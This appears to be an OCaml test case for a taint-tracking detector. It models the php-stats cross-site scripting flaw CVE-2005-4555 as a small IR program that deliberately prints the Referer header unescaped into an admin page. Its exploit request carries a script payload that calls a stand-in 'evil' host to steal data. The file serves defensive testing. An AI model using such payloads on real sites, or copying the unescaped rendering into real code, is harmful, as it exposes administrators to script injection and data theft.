(* php-stats 0.1.9.1b cross-site scripting (CVE-2005-4555 class).

   The statistics page aggregates per-referrer hit counts and prints
   each referrer string verbatim into the report table.  Referrers come
   straight from request headers (tainted network data), so a forged
   Referer header smuggles a <script> tag into the admin's stats page. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [ global_zeros "hits" 64 (* 8 counters *) ];
    funcs =
      [
        func "emit" ~params:[ "s" ] ~locals:[]
          [ Ir.Expr (call "sys_html_out" [ v "s"; call "strlen" [ v "s" ] ]); ret0 ];
        (* copy the Referer header value into out; returns length or -1 *)
        func "referer_of" ~params:[ "req"; "out" ]
          ~locals:[ scalar "p"; scalar "k"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; str "Referer: " ]);
            when_ (v "p" ==: i 0) [ ret (i 0 -: i 1) ];
            set "p" (v "p" +: i 9);
            set "k" (i 0);
            while_ (v "k" <: i 255)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_ ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code '\r'))
                      ||: (v "ch" ==: i (Char.code '\n')))
                  [ Ir.Break ];
                store8 (v "out" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "out" +: v "k") (i 0);
            ret (v "k");
          ];
        (* toy per-referrer hash bucket *)
        func "bucket_of" ~params:[ "s" ] ~locals:[ scalar "h"; scalar "k"; scalar "ch" ]
          [
            set "h" (i 5381);
            set "k" (i 0);
            while_ (i 1)
              [
                set "ch" (load8 (v "s" +: v "k"));
                when_ (v "ch" ==: i 0) [ Ir.Break ];
                set "h" ((v "h" *: i 33) +: v "ch");
                set "k" (v "k" +: i 1);
              ];
            ret (v "h" &: i 7);
          ];
        func "main" ~params:[]
          ~locals:
            [ scalar "sock"; array "req" 512; array "ref" 256; scalar "len";
              scalar "b"; array "row" 512; scalar "count" ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            set "len" (call "referer_of" [ v "req"; v "ref" ]);
            when_ (v "len" <: i 0) [ ret (i 2) ];
            (* account the hit; the bucket index is masked to the table
               size, the classic bounds-checked lookup the §3.3.2 rules
               recognise and untaint *)
            set "b" (call "untaint" [ call "bucket_of" [ v "ref" ] ]);
            store64 (v "hits" +: (v "b" *: i 8)) (load64 (v "hits" +: (v "b" *: i 8)) +: i 1);
            (* render the admin report *)
            ecall "emit" [ str "<html><h2>Top referrers</h2><table>" ];
            set "count" (load64 (v "hits" +: (v "b" *: i 8)));
            Ir.Expr
              (call "sprintf2" [ v "row"; str "<tr><td>%s</td><td>%d</td></tr>"; v "ref"; v "count" ]);
            ecall "emit" [ v "row" ];
            ecall "emit" [ str "</table></html>" ];
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h5 = true }

let case =
  {
    Attack_case.cve = "CVE-2005-4555";
    program_name = "php-stats (0.1.9.1b)";
    language = "PHP";
    attack_type = "Cross Site Scripting";
    detection_policies = "H5 + Low level policies";
    expected_policy = "H5";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /stats.php HTTP/1.0\r\nReferer: http://example.org/blog\r\n");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /stats.php HTTP/1.0\r\nReferer: http://e/<script>fetch('http://evil/steal')</script>\r\n");
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
    cache = Shift.Session.image_cache ();
  }
